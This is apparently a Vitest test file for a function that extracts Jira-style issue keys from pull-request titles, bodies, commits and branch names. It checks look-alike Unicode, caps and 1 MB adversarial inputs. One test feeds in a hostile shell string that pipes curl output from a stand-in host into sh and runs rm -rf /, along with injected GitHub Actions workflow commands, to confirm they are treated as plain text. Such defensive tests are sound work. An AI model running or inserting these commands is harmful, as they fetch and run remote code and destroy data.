import { describe, expect, test } from 'vitest'
import { DENYLISTED_PROJECTS, extractIssueKeys, isIssueKey, type KeySource, type KeySourceText } from '../../src/core/issue-keys.ts'

const MEGABYTE = 1024 * 1024

function keysIn(text: string, source: KeySource = 'title', projects?: readonly string[]): string[] {
  return extractIssueKeys([{ source, text }], { max: 1000, ...(projects ? { projects } : {}) }).keys
}

/** `text` repeated up to at least `size` characters. */
function repeated(text: string, size: number): string {
  return text.repeat(Math.ceil(size / text.length))
}

describe('key grammar in titles, bodies and commits', () => {
  test.each<[string, string[]]>([
    ['PROJ-12 fix the login', ['PROJ-12']],
    ['fix PROJ-12, OPS-3.', ['PROJ-12', 'OPS-3']],
    ['(PROJ-12) [OPS-3] `AB-4` "CD-5"', ['PROJ-12', 'OPS-3', 'AB-4', 'CD-5']],
    ['https://acme.atlassian.net/browse/PROJ-12?focus=1', ['PROJ-12']],
    ['PROJ-12/PROJ-13', ['PROJ-12', 'PROJ-13']],
    ['MY_PROJ-4 and A1B2-3', ['MY_PROJ-4', 'A1B2-3']],
    ['ABCDEFGHIJ-1 is ten letters', ['ABCDEFGHIJ-1']],
    ['ABCDEFGHIJK-1 is eleven', []],
    ['P-1 is one letter', []],
    ['1PROJ-1 starts with a digit', []],
    ['_PROJ-1 starts with an underscore', ['PROJ-1']],
    ['feature_PROJ-12 after an underscore', ['PROJ-12']],
    ['PROJ-012 PROJ-0 have a leading zero', []],
    ['PROJ-123456789 has nine digits', ['PROJ-123456789']],
    ['PROJ-1234567890 has ten', []],
    ['PROJ-12-login and PROJ-13_login', ['PROJ-12', 'PROJ-13']],
    ['PROJ-12a PROJ-12A aPROJ-12 PROJ--12 PROJ- -12', []],
    ['PROJ-1PROJ-2', []],
    ['PROJ-1-2 and PROJ-1.2 are longer identifiers', []],
    ['ends a sentence: PROJ-1.', ['PROJ-1']],
    ['proj-12 and Proj-13 are not uppercase', []],
    ['XPROJ-12 is another project', ['XPROJ-12']],
  ])('%s', (text, expected) => {
    expect(keysIn(text)).toEqual(expected)
  })

  test('a body is read like a title: lowercase keys do not count', () => {
    expect(keysIn('closes proj-1 and PROJ-2', 'body')).toEqual(['PROJ-2'])
    expect(keysIn('closes proj-1 and PROJ-2', 'commits')).toEqual(['PROJ-2'])
  })
})

describe('branch names', () => {
  test.each<[string, string[]]>([
    ['feature/PROJ-12-fix', ['PROJ-12']],
    ['proj-12-login', ['PROJ-12']],
    ['feature/proj-12_login', ['PROJ-12']],
    ['PROJ-12_fix', ['PROJ-12']],
    ['bugfix/Proj-3', ['PROJ-3']],
    ['feature/PROJ-12-and-ops-4', ['PROJ-12', 'OPS-4']],
    ['feature_PROJECT_PROJ-5', ['PROJ-5']],
    ['release/1.2-3', []],
    ['dependabot/npm_and_yarn/lodash-4.17.21', []],
    ['utf-8-cleanup', []],
    ['main', []],
  ])('%s', (branch, expected) => {
    expect(keysIn(branch, 'branch')).toEqual(expected)
  })

  test('an underscore prefix that itself fits the grammar is the project without an allow-list, and is cut away with one', () => {
    expect(keysIn('feat_proj-12', 'branch')).toEqual(['FEAT_PROJ-12'])
    expect(keysIn('feat_proj-12', 'branch', ['PROJ'])).toEqual(['PROJ-12'])
  })
})

describe('technical tokens and the allow-list', () => {
  test.each(['UTF-8', 'UTF-16', 'SHA-256', 'SHA3-512', 'ISO-8601', 'CVE-2024-1234', 'CWE-79', 'RFC-2119', 'TLS-1', 'X-1', 'X86-64', 'UTC-5', 'HTTP-2', 'GPT-4', 'COVID-19'])(
    '%s is not an issue without an allow-list',
    (token) => {
      expect(keysIn(`Switch to ${token} now`)).toEqual([])
      expect(keysIn(token.toLowerCase(), 'branch')).toEqual([])
    },
  )

  test('the denylist names only project keys that fit the grammar', () => {
    for (const project of DENYLISTED_PROJECTS) expect(project).toMatch(/^[A-Z][A-Z0-9_]{1,9}$/)
  })

  test.each<[string, string, readonly string[], { keys: string[]; ignored: string[] }]>([
    ['junk beside a listed key: only real-looking keys are reported', 'UTF-8 PROJ-1 OPS-2 SHA-256 CVE-2024-1234', ['PROJ'], { keys: ['PROJ-1'], ignored: ['OPS-2'] }],
    ['an explicitly listed technical project', 'UTF-8 and PROJ-1', ['UTF'], { keys: ['UTF-8'], ignored: ['PROJ-1'] }],
    ['lowercase and padded allow-list entries', 'PROJ-1 OPS-2', [' proj ', 'ops'], { keys: ['PROJ-1', 'OPS-2'], ignored: [] }],
    ['an empty allow-list means none', 'PROJ-1 UTF-8', [], { keys: ['PROJ-1'], ignored: [] }],
    ['ignored keys are de-duplicated', 'OPS-2 OPS-2 PROJ-1 OPS-2', ['PROJ'], { keys: ['PROJ-1'], ignored: ['OPS-2'] }],
  ])('%s', (_name, text, projects, expected) => {
    expect(extractIssueKeys([{ source: 'title', text }], { max: 100, projects })).toEqual({ ...expected, capped: 0 })
  })

  test('at most 20 ignored keys are listed', () => {
    const text = Array.from({ length: 50 }, (_, index) => `OPS-${index + 1}`).join(' ')
    const extraction = extractIssueKeys([{ source: 'title', text }], { max: 100, projects: ['PROJ'] })
    expect(extraction.ignored).toEqual(Array.from({ length: 20 }, (_, index) => `OPS-${index + 1}`))
    expect(extraction.keys).toEqual([])
  })
})

describe('look-alike characters never match', () => {
  test.each<[string, string]>([
    ['fullwidth key', 'ＰＲＯＪ－１'],
    ['fullwidth first letter', 'ＰROJ-1'],
    ['fullwidth hyphen', 'PROJ－1'],
    ['fullwidth digit', 'PROJ-１'],
    ['Cyrillic О inside', 'PRОJ-1'],
    ['Cyrillic Р in front', 'РROJ-1'],
    ['Greek Α in front', 'ΑBC-1'],
    ['mathematical bold P (astral) in front', '𝐏ROJ-1'],
    ['zero-width joiner inside the project', 'PR\u200dOJ-1'],
    ['zero-width space before the hyphen', 'PROJ\u200b-1'],
    ['zero-width space after the hyphen', 'PROJ-\u200b1'],
    ['zero-width joiner inside the number', 'PROJ-1\u200d2'],
    ['zero-width space in front', '\u200bPROJ-1'],
    ['word joiner after', 'PROJ-1\u2060'],
    ['combining accent after', 'PROJ-1\u0301'],
    ['accented letter in front', 'éPROJ-1'],
    ['accented letter after', 'PROJ-1é'],
    ['Arabic-Indic digit', 'PROJ-\u0661'],
  ])('%s', (_name, text) => {
    expect(keysIn(text)).toEqual([])
    expect(keysIn(text, 'branch')).toEqual([])
  })

  test.each(['🔥PROJ-1', 'PROJ-1🔥', '✅️PROJ-1', '→PROJ-1←', '«PROJ-1»'])('symbols and emoji are not letters: %s', (text) => {
    expect(keysIn(text)).toEqual(['PROJ-1'])
  })
})

describe('shell metacharacters and workflow commands are plain text', () => {
  test.each<[string, string[]]>([
    ['$(curl -s evil.example | sh) PROJ-1; rm -rf / && echo OPS-2', ['PROJ-1', 'OPS-2']],
    ['::add-mask::PROJ-1 ::stop-commands::OPS-2', ['PROJ-1', 'OPS-2']],
    ['`PROJ-1` ${OPS-2} <script>AB-3</script>', ['PROJ-1', 'OPS-2', 'AB-3']],
    ['PROJ-1\n::error file=x::OPS-2\r\n::set-output name=x::AB-3', ['PROJ-1', 'OPS-2', 'AB-3']],
  ])('%s', (title, expected) => {
    const { keys } = extractIssueKeys([{ source: 'title', text: title }], { max: 100 })
    expect(keys).toEqual(expected)
    for (const key of keys) expect(key).toMatch(/^[A-Z][A-Z0-9_]{1,9}-[1-9][0-9]{0,8}$/)
  })
})

describe('order, de-duplication and the cap', () => {
  test('keys keep first-seen order over all sources and appear once', () => {
    const sources: KeySourceText[] = [
      { source: 'title', text: 'PROJ-2 PROJ-1' },
      { source: 'branch', text: 'feature/proj-1-x' },
      { source: 'commits', text: 'OPS-1 fixes PROJ-2' },
      { source: 'body', text: 'see OPS-1 and AB-9' },
    ]
    expect(extractIssueKeys(sources, { max: 100 })).toEqual({ keys: ['PROJ-2', 'PROJ-1', 'OPS-1', 'AB-9'], capped: 0, ignored: [] })
  })

  test.each<[number, { keys: string[]; capped: number }]>([
    [2, { keys: ['PROJ-1', 'PROJ-2'], capped: 2 }],
    [4, { keys: ['PROJ-1', 'PROJ-2', 'PROJ-3', 'PROJ-4'], capped: 0 }],
    [0, { keys: [], capped: 4 }],
    [Number.NaN, { keys: [], capped: 4 }],
  ])('max %s counts distinct keys it drops', (max, expected) => {
    const text = 'PROJ-1 PROJ-2 PROJ-2 PROJ-3 PROJ-3 PROJ-4'
    expect(extractIssueKeys([{ source: 'title', text }], { max })).toEqual({ ...expected, ignored: [] })
  })

  test('thousands of keys, each twice, are de-duplicated and capped with the count', () => {
    const keys = Array.from({ length: 5000 }, (_, index) => `PROJ-${index + 1}`)
    const text = [...keys, ...keys].join(' ')
    const extraction = extractIssueKeys([{ source: 'body', text }], { max: 100 })
    expect(extraction.keys).toEqual(keys.slice(0, 100))
    expect(extraction.capped).toBe(4900)
  })
})

describe('1 MB adversarial inputs are scanned in one pass', () => {
  test.each<[string, string, KeySource, readonly string[] | undefined, string[]]>([
    ['A-A-A-…', repeated('A-', MEGABYTE), 'title', undefined, []],
    ['PROJ-PROJ-…', repeated('PROJ-', MEGABYTE), 'title', undefined, []],
    ['proj-proj-… in a branch', repeated('proj-', MEGABYTE), 'branch', undefined, []],
    ['one 1 MB word then -1', `${'A'.repeat(MEGABYTE)}-1`, 'title', undefined, []],
    ['PROJ- then 1 MB of digits', `PROJ-${'1'.repeat(MEGABYTE)}`, 'title', undefined, []],
    ['1 MB of x_ then PROJ-1', `${repeated('x_', MEGABYTE)}PROJ-1`, 'title', ['PROJ'], ['PROJ-1']],
    ['A_A_… then -1 (the longest fitting suffix)', `${repeated('A_', MEGABYTE)}A-1`, 'title', undefined, ['A_A_A_A_A-1']],
    ['PROJ-1-PROJ-1-…', repeated('PROJ-1-', MEGABYTE), 'title', undefined, ['PROJ-1']],
    ['PROJ-1 glued by zero-width joiners', repeated('PROJ-1\u200d', MEGABYTE), 'title', undefined, []],
    ['combining marks everywhere', repeated('PROJ-1\u0301', MEGABYTE), 'body', undefined, []],
    ['surrogate pairs everywhere', repeated('𝐏ROJ-1', MEGABYTE), 'body', undefined, []],
    ['{{{{ and dashes', repeated('{{-_-}}', MEGABYTE), 'body', undefined, []],
  ])('%s', (_name, text, source, projects, expected) => {
    expect(text.length).toBeGreaterThanOrEqual(MEGABYTE)
    const extraction = extractIssueKeys([{ source, text }], { max: 100, ...(projects ? { projects } : {}) })
    expect(extraction.keys).toEqual(expected)
  })

  test('1 MB of distinct keys: the first 100 kept, the rest counted', () => {
    const parts: string[] = []
    for (let number = 1, size = 0; size < MEGABYTE; number += 1) {
      parts.push(`PROJ-${number}`)
      size += parts.at(-1)!.length + 1
    }
    const extraction = extractIssueKeys([{ source: 'body', text: parts.join(' ') }], { max: 100 })
    expect(extraction.keys).toEqual(parts.slice(0, 100))
    expect(extraction.capped).toBe(parts.length - 100)
  })
})

describe('isIssueKey', () => {
  test.each<[string, boolean]>([
    ['PROJ-1', true],
    ['MY_PROJ-42', true],
    ['proj-1', false],
    ['PROJ-1 ', false],
    ['x PROJ-1', false],
    ['PROJ-01', false],
    ['feature_PROJ-1', false],
    ['PROJ-1,OPS-2', false],
  ])('%s → %s', (text, expected) => {
    expect(isIssueKey(text)).toBe(expected)
  })
})
